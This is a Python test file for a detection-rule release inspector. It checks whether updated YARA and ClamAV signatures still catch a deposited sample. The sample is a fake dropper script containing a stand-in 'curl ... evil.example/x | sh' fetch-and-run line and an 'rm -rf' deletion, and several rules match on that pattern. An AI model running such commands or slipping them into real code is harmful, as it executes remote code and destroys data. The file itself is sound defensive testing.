"""Detections that still detect: releases scanned over the inspector's evidence corpus."""

from __future__ import annotations

import hashlib
import shutil
from pathlib import Path

import pytest

from clearance.inspection import NullProgress
from clearance.inspection.base import InspectionInput
from clearance.inspection.content.inspector import ContentInspector
from clearance.inspection.findings import Finding, Severity

from ._helpers import artifact, honest_corpus, write

SAMPLE = b"#!/bin/sh\n# dropper\ncurl -s http://evil.example/x | sh\nrm -rf /tmp/.k\n" * 3


def _inspect(
    tmp: Path,
    current: dict[str, str],
    previous: dict[str, str] | None,
    declared: tuple[tuple[str, tuple[str, ...]], ...] = (),
) -> list[Finding]:
    evidence = write(tmp / "evidence", {"dropper.sh": SAMPLE})[0].parent
    paths = write(tmp / "current", dict(current))
    prev = write(tmp / "previous", dict(previous)) if previous is not None else []
    inp = InspectionInput(
        product="p",
        version="2",
        artifacts=tuple(artifact(p) for p in paths),
        previous_artifacts=tuple(artifact(p) for p in prev),
        corpus=(honest_corpus(tmp / "corpus"),),
        work_dir=tmp / "work",
        evidence=(evidence,),
        declared_evidence=declared,
    )
    return list(ContentInspector().inspect(inp, NullProgress()).findings)


def _removed(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.evidence.get("change") in ("no-longer-detected", "weakened")]


DIGEST = hashlib.sha256(SAMPLE).hexdigest()


def test_yara_rule_weakened_under_the_same_name_no_longer_detects(tmp_path: Path) -> None:
    before = 'rule Dropper { strings: $a = "evil.example/x | sh" condition: $a }\n'
    # Same name, same number of patterns, a pattern that can no longer match the sample.
    after = 'rule Dropper { strings: $a = "evil.example/y | sh" condition: $a }\n'
    findings = _removed(_inspect(tmp_path, {"r.yar": after}, {"r.yar": before}))
    assert len(findings) == 1
    f = findings[0]
    assert f.severity == Severity.HIGH and f.locations[0].logical_name == "Dropper"
    assert f.evidence["sample_sha256"] == DIGEST
    # Only the digest is logged, never where the inspector keeps the file.
    assert "dropper.sh" not in repr(f) and str(tmp_path) not in repr(f)


def test_clamav_allow_list_that_hides_a_sample_is_a_removed_detection(tmp_path: Path) -> None:
    if shutil.which("clamscan") is None:
        pytest.skip("clamav not installed")
    sig = "Unix.Dropper:0:*:" + b"evil.example/x | sh".hex() + "\n"
    md5 = hashlib.md5(SAMPLE).hexdigest()
    findings = _removed(
        _inspect(
            tmp_path,
            {"v.ndb": sig, "v.fp": f"{md5}:{len(SAMPLE)}:dropper-is-fine\n"},
            {"v.ndb": sig},
        )
    )
    assert [f.locations[0].logical_name for f in findings] == ["Unix.Dropper"]
    assert findings[0].evidence["previous_rules"] == ["Unix.Dropper"]


def test_unchanged_release_keeps_detecting(tmp_path: Path) -> None:
    rule = 'rule Dropper { strings: $a = "evil.example/x | sh" condition: $a }\n'
    assert _removed(_inspect(tmp_path, {"r.yar": rule}, {"r.yar": rule})) == []


def test_new_rule_matching_none_of_its_declared_evidence_is_reported(tmp_path: Path) -> None:
    rules = (
        'rule Honest { strings: $a = "rm -rf /tmp/.k" condition: $a }\n'
        'rule Decoy { strings: $a = "nothing like the sample" condition: $a }\n'
    )
    missing = "0" * 64
    findings = _inspect(
        tmp_path,
        {"r.yar": rules},
        None,
        declared=((DIGEST, ("Honest", "Decoy")), (missing, ("Honest",))),
    )
    unmatched = [f for f in findings if f.evidence.get("change") == "evidence-not-matched"]
    assert [f.locations[0].logical_name for f in unmatched] == ["Decoy"]
    assert unmatched[0].evidence["new_rule"] is True
    assert any(f.evidence.get("change") == "evidence-missing" for f in findings)


def test_cli_release_declares_evidence_and_inspection_logs_only_its_digest(
    tmp_path: Path,
) -> None:
    from clearance.cli import main

    keys = tmp_path / "k"
    assert main(["keys", "generate", "vendor", "--dir", str(keys)]) == 0
    assert main(["keys", "generate", "inspector", "--dir", str(keys)]) == 0
    evidence = write(tmp_path / "deposited", {"dropper-sample.sh": SAMPLE})[0].parent
    v1 = write(
        tmp_path / "v1",
        {"r.yar": 'rule Dropper { strings: $a = "evil.example/x | sh" condition: $a }\n'},
    )
    v2 = write(
        tmp_path / "v2",
        {"r.yar": 'rule Dropper { strings: $a = "evil.example/y | sh" condition: $a }\n'},
    )
    common = ["--product", "acme", "--channel", "stable", "--key", str(keys / "vendor.key")]
    assert (
        main(
            [
                "release",
                "create",
                *common,
                "--version",
                "1.0.0",
                "--content",
                str(v1[0]),
                "--evidence",
                f"{DIGEST}=Dropper",
                "--out",
                str(tmp_path / "r1.json"),
            ]
        )
        == 0
    )
    assert (
        main(
            [
                "release",
                "create",
                *common,
                "--version",
                "1.1.0",
                "--content",
                str(v2[0]),
                "--evidence",
                f"{DIGEST}=Dropper",
                "--previous",
                str(tmp_path / "r1.json"),
                "--out",
                str(tmp_path / "r2.json"),
            ]
        )
        == 0
    )
    sarif = tmp_path / "f.sarif"
    code = main(
        [
            "inspect",
            str(tmp_path / "r2.json"),
            "--artifacts",
            str(v2[0].parent),
            "--previous",
            str(tmp_path / "r1.json"),
            "--previous-artifacts",
            str(v1[0].parent),
            "--corpus",
            str(honest_corpus(tmp_path / "corpus")),
            "--evidence",
            str(evidence),
            "--key",
            str(keys / "inspector.key"),
            "--out",
            str(tmp_path / "v.json"),
            "--sarif",
            str(sarif),
        ]
    )
    assert code == 0
    text = sarif.read_text()
    assert f"sha256:{DIGEST}" in text and "no-longer-detected" in text
    assert "evidence-not-matched" in text  # the new release's Dropper misses its declared sample
    assert "dropper-sample" not in text and str(evidence) not in text


def test_yara_rule_that_stops_matching_while_another_still_detects_is_weakened(
    tmp_path: Path,
) -> None:
    keep = 'rule Other { strings: $a = "rm -rf /tmp/.k" condition: $a }\n'
    before = keep + 'rule Dropper { strings: $a = "evil.example/x | sh" condition: $a }\n'
    after = keep + 'rule Dropper { strings: $a = "evil.example/z | sh" condition: $a }\n'
    findings = _removed(_inspect(tmp_path, {"r.yar": after}, {"r.yar": before}))
    assert [(f.evidence["change"], f.locations[0].logical_name) for f in findings] == [
        ("weakened", "Dropper")
    ]
    assert findings[0].severity == Severity.MEDIUM
